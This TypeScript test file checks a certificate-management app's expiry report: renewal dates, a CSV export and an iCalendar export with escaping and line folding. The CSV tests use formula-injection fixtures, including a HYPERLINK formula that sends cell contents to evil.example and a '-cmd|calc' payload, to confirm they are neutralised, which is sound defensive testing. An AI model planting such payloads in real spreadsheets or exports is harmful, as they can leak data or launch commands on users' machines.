// The expiry report: renewal dates from profiles, the CSV for spreadsheets (BOM, CRLF, quoting,
// formula injection) and the iCalendar file (parsed back with ical.js; escaping, folding, alarms).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import ICAL from 'ical.js';
import {
  EXPIRY_CSV_COLUMNS,
  expiryCsv,
  expiryItems,
  type ExpiryItem,
} from '../../electron/core/lifecycle/expiry-report.js';
import { neutraliseFormula } from '../../electron/core/csv-writer.js';
import { escapeText, expiryCalendar, foldLine } from '../../electron/core/lifecycle/icalendar.js';
import type { CertificateRecord, Profile, ProfileId, Recipient } from '../../shared/domain.js';

const NOW = new Date('2026-06-15T12:00:00.000Z');
const TODAY = '2026-06-15';

const ZOE = 'Zoë Ørsted, "Ops"; Team';
const TRICKY_ALIAS = 'ops\\share;a,b\nsecond line';
const LONG_ALIAS =
  'Ørsted-München-Łódź-東京 shared mailbox for the Ops; Facilities, and Helpdesk rota — ' +
  'ActiveSync on the iPad Pro in meeting room “Nordlys” (second floor, east wing) 🔐🔐🔐';
const EVIL_HOLDER = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

function sha256(s: string): string {
  return createHash('sha256').update(s).digest('hex');
}

function profile(id: ProfileId, renewBeforeDays: number): Profile {
  return {
    id,
    name: id,
    description: `${id} certificates`,
    defaultKey: 'ec-p256',
    validityDays: 365,
    renewBeforeDays,
    autoRenew: false,
    keyUsage: ['digitalSignature'],
    extendedKeyUsage: ['clientAuth'],
    sanAllowed: ['email'],
    sanRequireOneOf: [],
    keepKey: false,
    pfxEncryption: 'modern',
    passwordRule: { length: 16, minLength: 12, maxLength: 64, minGroups: 3, groups: ['upper', 'lower', 'digits'] },
    renewSameKey: false,
  };
}

const PROFILES: Profile[] = [profile('user', 30), profile('device', 14), profile('mail', 45)];

function recipient(over: Partial<Recipient> = {}): Recipient {
  return { id: 1, kind: 'person', name: 'someone', email: null, phone: null, description: null, sid: null, account: null, ...over };
}

function cert(id: number, over: Partial<CertificateRecord>): CertificateRecord {
  return {
    id,
    kind: 'end-entity',
    issuerCaId: 2,
    issuerName: 'Example Users',
    serial: id.toString(16).padStart(32, '0'),
    subject: `CN=cert ${id}`,
    holder: `Holder ${id}`,
    sans: [],
    profile: 'user',
    recipient: null,
    source: 'issued',
    status: 'valid',
    statusChangedAt: '2025-06-01T00:00:00.000Z',
    revokedAt: null,
    revocationReason: null,
    issuedAt: '2025-06-01T00:00:00.000Z',
    notBefore: '2025-06-01T00:00:00.000Z',
    notAfter: '2026-12-01T00:00:00.000Z',
    alias: null,
    autoRenew: false,
    keyType: 'ec-p256',
    hasKey: false,
    sha1: createHash('sha1').update(`cert ${id}`).digest('hex'),
    sha256: sha256(`cert ${id}`),
    pem: '-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n',
    renewedFrom: null,
    supersededBy: null,
    deleted: false,
    ...over,
  };
}

// Deliberately out of order.
const CERTS: CertificateRecord[] = [
  cert(15, { holder: 'Tie later id', notAfter: '2026-12-01T00:00:00.000Z', profile: 'device' }),
  cert(14, {
    holder: '東京オフィス — 山田 太郎',
    alias: LONG_ALIAS,
    profile: null,
    source: 'imported',
    issuerName: null,
    issuerCaId: null,
    notAfter: '2027-06-15T12:00:00.000Z',
    recipient: recipient({ email: '@attacker.example', phone: '+44 20 7946 0958' }),
  }),
  cert(10, {
    holder: ZOE,
    alias: 'zoe-phone',
    notAfter: '2026-09-01T10:00:00.000Z',
    recipient: recipient({ email: 'zoe@example.com', phone: '0123 456' }),
  }),
  cert(12, { holder: 'Revoked Rita', status: 'revoked', revokedAt: '2026-01-01T00:00:00.000Z', revocationReason: 'keyCompromise', notAfter: '2026-06-01T00:00:00.000Z' }),
  cert(11, { holder: EVIL_HOLDER, profile: 'device', status: 'expired', notAfter: '2026-06-10T00:00:00.000Z' }),
  cert(13, { holder: 'Nearly Ned', alias: TRICKY_ALIAS, profile: 'mail', notAfter: '2026-06-20T08:00:00.000Z' }),
  cert(9, { holder: 'Tie earlier id', notAfter: '2026-12-01T00:00:00.000Z', profile: null, alias: null }),
];

function items(): ExpiryItem[] {
  return expiryItems(CERTS, PROFILES, NOW);
}

function byId(list: ExpiryItem[], id: number): ExpiryItem {
  const item = list.find((i) => i.certificate.id === id);
  assert.ok(item, `item ${id}`);
  return item;
}

test('expiryItems: revoked left out, sorted by notAfter then id', () => {
  const list = items();
  assert.deepEqual(
    list.map((i) => i.certificate.id),
    [11, 13, 10, 9, 15, 14],
  );
  assert.ok(!list.some((i) => i.certificate.status === 'revoked'));
  assert.equal(list[0]!.certificate, CERTS.find((c) => c.id === 11), 'the record itself, not a copy');
  assert.deepEqual(expiryItems([], PROFILES, NOW), []);
});

test('expiryItems: already renewed (superseded) and deleted certificates are left out', () => {
  const list = expiryItems(
    [
      cert(50, { supersededBy: 51 }),
      cert(51, { renewedFrom: 50, notAfter: '2027-12-01T00:00:00.000Z' }),
      cert(52, { deleted: true }),
    ],
    PROFILES,
    NOW,
  );
  assert.deepEqual(
    list.map((i) => i.certificate.id),
    [51],
  );
});

test('expiryItems: renew-before days from the profile, 30 without one', () => {
  const list = items();
  assert.equal(byId(list, 10).renewBeforeDays, 30);
  assert.equal(byId(list, 11).renewBeforeDays, 14);
  assert.equal(byId(list, 13).renewBeforeDays, 45);
  assert.equal(byId(list, 14).renewBeforeDays, 30, 'no profile');
  assert.equal(byId(list, 9).renewBeforeDays, 30, 'no profile');
  // A profile id that the list does not define also falls back to 30.
  const [only] = expiryItems([cert(20, { profile: 'vpn' })], PROFILES, NOW);
  assert.equal(only!.renewBeforeDays, 30);
});

test('expiryItems: renewOn is notAfter minus the lead time, never before today', () => {
  const list = items();
  assert.equal(byId(list, 10).renewOn, '2026-08-02'); // 2026-09-01 - 30 days
  assert.equal(byId(list, 15).renewOn, '2026-11-17'); // 2026-12-01 - 14 days
  assert.equal(byId(list, 14).renewOn, '2027-05-16'); // 2027-06-15 - 30 days
  assert.equal(byId(list, 13).renewOn, TODAY, 'due date already passed: clamped to today');
  assert.equal(byId(list, 11).renewOn, TODAY, 'expired: today');
  for (const i of list) assert.match(i.renewOn, /^\d{4}-\d{2}-\d{2}$/);
  // The day boundary is UTC: a certificate ending just after midnight UTC.
  const [edge] = expiryItems([cert(21, { notAfter: '2026-10-01T00:30:00.000Z' })], PROFILES, NOW);
  assert.equal(edge!.renewOn, '2026-09-01');
});

test('expiryItems: daysLeft in whole days, negative once expired', () => {
  const list = items();
  assert.equal(byId(list, 10).daysLeft, 77); // 77 days 22 hours
  assert.equal(byId(list, 13).daysLeft, 4); // 4 days 20 hours
  assert.equal(byId(list, 14).daysLeft, 365);
  assert.equal(byId(list, 11).daysLeft, -6); // expired 5.5 days ago
  const [lastDay] = expiryItems([cert(22, { notAfter: '2026-06-15T18:00:00.000Z' })], PROFILES, NOW);
  assert.equal(lastDay!.daysLeft, 0);
});

// ---------------------------------------------------------------------------------------------- CSV

function parseCsv(csv: string): Record<string, string>[] {
  return parse(csv, { bom: true, columns: true, skip_empty_lines: false }) as Record<string, string>[];
}

test('expiryCsv: BOM, header, CRLF and RFC 4180 quoting', () => {
  const csv = expiryCsv(items());
  assert.equal(csv.charCodeAt(0), 0xfeff, 'starts with the byte order mark');
  assert.deepEqual([...Buffer.from(csv, 'utf8').subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.ok(csv.startsWith('\uFEFF' + EXPIRY_CSV_COLUMNS.join(',') + '\r\n'));
  assert.equal(
    EXPIRY_CSV_COLUMNS.join(','),
    'holder,alias,profile,ca,serial,sha256,not_after,days_left,renew_on,status,recipient_email,recipient_phone',
  );
  assert.ok(csv.endsWith('\r\n'));
  // Outside quoted fields every line ends in CRLF; the only bare \n is inside the quoted alias.
  const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '""');
  assert.doesNotMatch(outsideQuotes, /[^\r]\n|\r(?!\n)/);
  assert.equal(outsideQuotes.split('\r\n').length - 1, 1 + items().length);
  assert.ok(csv.includes('"Zoë Ørsted, ""Ops""; Team"'), 'quotes doubled, field quoted');
  assert.ok(csv.includes(`"ops\\share;a,b\nsecond line"`), 'a line break inside a field is quoted');
});

test('expiryCsv: parses back to the same values', () => {
  const list = items();
  const rows = parseCsv(expiryCsv(list));
  assert.equal(rows.length, list.length);
  assert.deepEqual(rows[2], {
    holder: ZOE,
    alias: 'zoe-phone',
    profile: 'user',
    ca: 'Example Users',
    serial: cert(10, {}).serial,
    sha256: sha256('cert 10'),
    not_after: '2026-09-01T10:00:00.000Z',
    days_left: '77',
    renew_on: '2026-08-02',
    status: 'valid',
    recipient_email: 'zoe@example.com',
    recipient_phone: '0123 456',
  });
  assert.equal(rows[1]!.alias, TRICKY_ALIAS);
  const tokyo = rows[5]!;
  assert.equal(tokyo.holder, '東京オフィス — 山田 太郎');
  assert.equal(tokyo.alias, LONG_ALIAS);
  assert.equal(tokyo.profile, '');
  assert.equal(tokyo.ca, '');
  // Every row in order, compared with the items.
  rows.forEach((row, n) => {
    const c = list[n]!.certificate;
    assert.equal(row.sha256, c.sha256);
    assert.equal(row.serial, c.serial);
    assert.equal(row.renew_on, list[n]!.renewOn);
    assert.equal(Number(row.days_left), list[n]!.daysLeft);
  });
  assert.equal(parseCsv(expiryCsv([])).length, 0, 'an empty report is just the header');
  assert.equal(expiryCsv([]), '\uFEFF' + EXPIRY_CSV_COLUMNS.join(',') + '\r\n');
});

test('expiryCsv: formula injection neutralised with a leading quote, numbers left alone', () => {
  const rows = parseCsv(expiryCsv(items()));
  const evil = rows[0]!;
  assert.equal(evil.holder, `'${EVIL_HOLDER}`);
  assert.equal(evil.days_left, '-6', 'a negative day count stays a number');
  assert.equal(evil.status, 'expired');
  const tokyo = rows[5]!;
  assert.equal(tokyo.recipient_email, "'@attacker.example");
  assert.equal(tokyo.recipient_phone, "'+44 20 7946 0958");
  for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseFormula(v), `'${v}`);
  for (const v of ['a=1', '', "'x", 'Zoë']) assert.equal(neutraliseFormula(v), v);
  const [minus] = parseCsv(expiryCsv(expiryItems([cert(30, { holder: '-cmd|calc', alias: '+x' })], PROFILES, NOW)));
  assert.equal(minus!.holder, "'-cmd|calc");
  assert.equal(minus!.alias, "'+x");
});

// ---------------------------------------------------------------------------------------- iCalendar

function physicalLines(ics: string): string[] {
  assert.ok(ics.endsWith('\r\n'));
  assert.doesNotMatch(ics, /[^\r]\n|\r(?!\n)/, 'CRLF everywhere, no bare CR or LF');
  return ics.slice(0, -2).split('\r\n');
}

function vevents(ics: string): ICAL.Component[] {
  const cal = new ICAL.Component(ICAL.parse(ics));
  assert.equal(cal.name, 'vcalendar');
  return cal.getAllSubcomponents('vevent');
}

function expectedSummary(c: CertificateRecord): string {
  const label = c.alias ?? c.profile;
  return `Renew certificate: ${c.holder}${label ? ` (${label})` : ''}`;
}

test('expiryCalendar: calendar properties', () => {
  const ics = expiryCalendar(items(), { now: NOW });
  const cal = new ICAL.Component(ICAL.parse(ics));
  assert.equal(cal.getFirstPropertyValue('version'), '2.0');
  assert.equal(cal.getFirstPropertyValue('prodid'), '-//CertDesk//Expiry//EN');
  assert.equal(cal.getFirstPropertyValue('calscale'), 'GREGORIAN');
  assert.equal(cal.getFirstPropertyValue('method'), 'PUBLISH');
  assert.equal(cal.getFirstPropertyValue('x-wr-calname'), 'Certificate renewals');
  assert.ok(ics.startsWith('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//CertDesk//Expiry//EN\r\n'));
  assert.ok(ics.endsWith('END:VCALENDAR\r\n'));
  assert.doesNotMatch(ics, /^\uFEFF/);
  const other = expiryCalendar([], { now: NOW, productId: '-//Example Ltd//Renewals//EN' });
  assert.equal(new ICAL.Component(ICAL.parse(other)).getFirstPropertyValue('prodid'), '-//Example Ltd//Renewals//EN');
  assert.equal(vevents(other).length, 0);
});

test('expiryCalendar: each event round-trips summary, uid and dates exactly', () => {
  const list = items();
  const events = vevents(expiryCalendar(list, { now: NOW }));
  assert.equal(events.length, list.length);
  events.forEach((ev, n) => {
    const item = list[n]!;
    const c = item.certificate;
    assert.equal(ev.getFirstPropertyValue('summary'), expectedSummary(c));
    assert.equal(ev.getFirstPropertyValue('uid'), `${c.sha256}@certdesk`);
    const start = ev.getFirstPropertyValue('dtstart') as ICAL.Time;
    assert.equal(start.isDate, true, 'all-day');
    assert.equal(start.toString(), item.renewOn);
    const end = ev.getFirstPropertyValue('dtend') as ICAL.Time;
    assert.equal(end.isDate, true);
    const startMs = Date.parse(`${item.renewOn}T00:00:00Z`);
    assert.equal(end.toString(), new Date(startMs + 86_400_000).toISOString().slice(0, 10), 'ends the next day');
    const stamp = ev.getFirstPropertyValue('dtstamp') as ICAL.Time;
    assert.equal(stamp.toString(), '2026-06-15T12:00:00Z');
  });
  const zoe = events[2]!;
  assert.equal(zoe.getFirstPropertyValue('summary'), 'Renew certificate: Zoë Ørsted, "Ops"; Team (zoe-phone)');
  assert.equal(events[1]!.getFirstPropertyValue('summary'), `Renew certificate: Nearly Ned (${TRICKY_ALIAS})`);
  assert.equal(events[3]!.getFirstPropertyValue('summary'), 'Renew certificate: Tie earlier id', 'no alias, no profile');
  assert.equal(events[4]!.getFirstPropertyValue('summary'), 'Renew certificate: Tie later id (device)', 'profile when no alias');
  assert.equal(events[5]!.getFirstPropertyValue('summary'), `Renew certificate: 東京オフィス — 山田 太郎 (${LONG_ALIAS})`);
});

test('expiryCalendar: raw lines are escaped, dated and stamped as RFC 5545 says', () => {
  const ics = expiryCalendar(items(), { now: NOW });
  const unfolded = ics.replace(/\r\n /g, '');
  assert.ok(unfolded.includes('\r\nSUMMARY:Renew certificate: Zoë Ørsted\\, "Ops"\\; Team (zoe-phone)\r\n'));
  assert.ok(unfolded.includes('\r\nSUMMARY:Renew certificate: Nearly Ned (ops\\\\share\\;a\\,b\\nsecond line)\r\n'));
  assert.ok(unfolded.includes(`\r\nUID:${sha256('cert 10')}@certdesk\r\n`));
  assert.ok(unfolded.includes('\r\nDTSTART;VALUE=DATE:20260802\r\nDTEND;VALUE=DATE:20260803\r\n'));
  assert.ok(unfolded.includes('\r\nDTSTAMP:20260615T120000Z\r\n'));
  assert.equal(escapeText('a\\b;c,d\ne\r\nf\rg'), 'a\\\\b\\;c\\,d\\ne\\nf\\ng');
  assert.equal(escapeText('bell\u0007 and tab\t'), 'bell and tab\t', 'control characters other than tab dropped');
  // Month and year roll over for DTEND.
  const [eoy] = expiryItems([cert(40, { notAfter: '2027-01-31T12:00:00.000Z' })], PROFILES, NOW);
  assert.equal(eoy!.renewOn, '2027-01-01');
  const eoyIcs = expiryCalendar([{ ...eoy!, renewOn: '2026-12-31' }], { now: NOW });
  assert.ok(eoyIcs.includes('DTSTART;VALUE=DATE:20261231\r\nDTEND;VALUE=DATE:20270101\r\n'));
});

test('expiryCalendar: the description names holder, CA, serial, SHA-256, expiry and the renew command', () => {
  const list = items();
  const events = vevents(expiryCalendar(list, { now: NOW }));
  const zoe = String(events[2]!.getFirstPropertyValue('description'));
  assert.ok(zoe.includes(`Holder: ${ZOE}`));
  assert.ok(zoe.includes('CA: Example Users'));
  assert.ok(zoe.includes(`Serial: ${cert(10, {}).serial}`));
  assert.ok(zoe.includes(`SHA-256: ${sha256('cert 10')}`));
  assert.ok(zoe.includes('Expires: 2026-09-01 10:00:00 UTC'));
  assert.ok(zoe.includes('certdesk renew 10'));
  assert.equal(zoe.split('\n').length > 5, true, 'one fact per line');
  const tokyo = String(events[5]!.getFirstPropertyValue('description'));
  assert.ok(tokyo.includes(`Alias: ${LONG_ALIAS}`));
  assert.ok(tokyo.includes('certdesk renew 14'));
  assert.ok(tokyo.includes('CA: (not in this vault)'));
});

test('expiryCalendar: a display alarm a week before each renewal', () => {
  const list = items();
  const ics = expiryCalendar(list, { now: NOW });
  for (const [n, ev] of vevents(ics).entries()) {
    const alarms = ev.getAllSubcomponents('valarm');
    assert.equal(alarms.length, 1);
    const alarm = alarms[0]!;
    assert.equal(alarm.getFirstPropertyValue('action'), 'DISPLAY');
    assert.equal(String(alarm.getFirstPropertyValue('trigger')), '-P7D');
    assert.equal(alarm.getFirstPropertyValue('description'), expectedSummary(list[n]!.certificate));
  }
  assert.equal(ics.match(/\r\nTRIGGER:-P7D\r\n/g)?.length, list.length);
});

test('expiryCalendar: lines folded at 75 octets without splitting a character, CRLF everywhere', () => {
  const ics = expiryCalendar(items(), { now: NOW });
  const lines = physicalLines(ics);
  assert.ok(lines.some((l) => l.startsWith(' ')), 'the long alias and descriptions are folded');
  for (const line of lines) {
    const bytes = Buffer.from(line, 'utf8');
    assert.ok(bytes.length <= 75, `${bytes.length} octets: ${line}`);
    assert.doesNotMatch(line, /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/, 'no lone surrogate');
    assert.equal(bytes.toString('utf8'), line, 'each line is valid UTF-8 on its own');
  }
  // Unfolding gives back exactly the unfolded content lines.
  const logical = ics.replace(/\r\n /g, '').split('\r\n');
  assert.ok(logical.some((l) => Buffer.byteLength(l) > 150));
  assert.ok(logical.every((l) => !l.startsWith(' ')));
  // The emoji (4 octets) and CJK (3 octets) survive the folding.
  const events = vevents(ics);
  assert.ok(String(events[5]!.getFirstPropertyValue('summary')).endsWith('🔐🔐🔐)'));
});

test('foldLine: octet-exact folding', () => {
  assert.equal(foldLine('A'.repeat(75)), 'A'.repeat(75) + '\r\n', '75 octets fit on one line');
  assert.equal(foldLine('A'.repeat(76)), 'A'.repeat(75) + '\r\n A\r\n');
  const e = foldLine('é'.repeat(100)); // 2 octets each
  const parts = e.slice(0, -2).split('\r\n');
  assert.equal(parts[0], 'é'.repeat(37), '74 octets: the 38th é would make 76');
  for (const p of parts) assert.ok(Buffer.byteLength(p) <= 75);
  assert.equal(e.replace(/\r\n /g, ''), 'é'.repeat(100) + '\r\n');
  const emoji = foldLine('X:' + '🔐'.repeat(40));
  for (const p of emoji.slice(0, -2).split('\r\n')) {
    assert.ok(Buffer.byteLength(p) <= 75);
    assert.doesNotMatch(p, /^ ?[\uDC00-\uDFFF]|[\uD800-\uDBFF]$/);
  }
  // An escape sequence is never cut in two.
  const esc = foldLine('S:' + 'a'.repeat(72) + '\\n' + 'b');
  assert.equal(esc, 'S:' + 'a'.repeat(72) + '\r\n \\nb\r\n');
});

test('expiryCalendar: UIDs are stable across exports, DTSTAMP follows now', () => {
  const list = items();
  const a = vevents(expiryCalendar(list, { now: NOW }));
  const later = new Date('2026-07-01T08:30:05.123Z');
  const b = vevents(expiryCalendar(expiryItems(CERTS, PROFILES, later), { now: later }));
  assert.deepEqual(
    a.map((e) => e.getFirstPropertyValue('uid')),
    b.map((e) => e.getFirstPropertyValue('uid')),
  );
  assert.equal(String(b[0]!.getFirstPropertyValue('dtstamp')), '2026-07-01T08:30:05Z');
  assert.equal(new Set(a.map((e) => e.getFirstPropertyValue('uid'))).size, a.length);
});
